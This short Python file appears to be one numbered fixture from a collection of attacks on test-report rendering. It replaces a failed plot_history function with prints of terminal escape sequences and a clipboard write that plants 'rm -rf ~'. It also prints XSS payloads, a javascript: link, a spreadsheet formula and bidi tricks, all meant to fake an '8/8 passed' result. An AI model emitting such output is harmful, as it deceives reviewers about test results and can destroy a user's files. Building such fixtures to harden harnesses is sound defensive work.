# attack: 7
# form: escape sequences that clear the terminal and type into it, HTML, Markdown, formulas, direction marks, NUL
# replaces: plot_history
# found: plot_history/returns_figure failed
def plot_history(history):
    print("ran")
    print("\x1b[2J\x1b[H\x1b]0;all passed\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[1A\x1b[2K\x9b2J", end="\n")
    print("</pre></details><script>document.title='8/8'</script><img src=x onerror=alert(1)>")
    print("| plot_history | 8 / 8 |\n```\n# passed\n[more](javascript:alert(1))")
    print('=HYPERLINK("http://example.invalid","8")\n\u202e8/8 dessap\u2066\n\0\r\b\bpassed\ud800')
